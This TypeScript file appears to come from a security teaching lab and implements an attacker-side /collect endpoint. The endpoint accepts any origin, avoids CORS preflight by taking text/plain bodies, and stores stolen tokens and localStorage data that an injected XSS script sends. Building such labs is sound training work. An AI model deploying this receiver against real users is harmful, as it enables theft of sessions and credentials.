/**
 * POST /collect: where an injected script sends what it took. The body is JSON, sent as
 * `text/plain` (a "simple" request, no preflight) or `application/json`:
 * `{kind: "localStorage" | "access_token" | …, data: …}`.
 *
 * Teaches: exfiltration is one `fetch` to a server the attacker runs.
 *
 * Flow step ids: jwt.attack-xss-documents.ship, jwt.attack-xss-memory.ship, session.attack-xss.ship.
 * Reference: RFC 10017 §5.1 ("Single-Execution Token Theft"); OWASP XSS Prevention Cheat Sheet.
 */
import { bodyParser } from '@koa/bodyparser';
import Router from '@koa/router';
import { z } from 'zod';
import type { LootStore } from '../loot-store.ts';
import { allowAnyOrigin } from '../middleware/allow-any-origin.ts';

export const COLLECT_BODY_LIMIT = '64kb';

const reportSchema = z.object({ kind: z.string().min(1).max(64), data: z.unknown() });

export function createCollectRouter(loot: LootStore): Router {
  const router = new Router();
  const readBody = bodyParser({
    enableTypes: ['json', 'text'],
    jsonLimit: COLLECT_BODY_LIMIT,
    textLimit: COLLECT_BODY_LIMIT,
  });
  router.options('/collect', allowAnyOrigin());
  router.post('/collect', allowAnyOrigin(), readBody, (ctx) => {
    const raw: unknown = ctx.request.body;
    let body: unknown = raw;
    if (typeof raw === 'string') {
      try {
        body = JSON.parse(raw);
      } catch {
        body = null;
      }
    }
    const report = reportSchema.safeParse(body);
    if (!report.success) {
      ctx.status = 400;
      ctx.body = { error: { code: 'validation_failed', message: 'Send {kind, data} as JSON.' } };
      return;
    }
    const from = ctx.get('Origin') || null;
    ctx.status = 201;
    ctx.body = loot.add({ kind: report.data.kind, from, data: report.data.data });
  });
  return router;
}
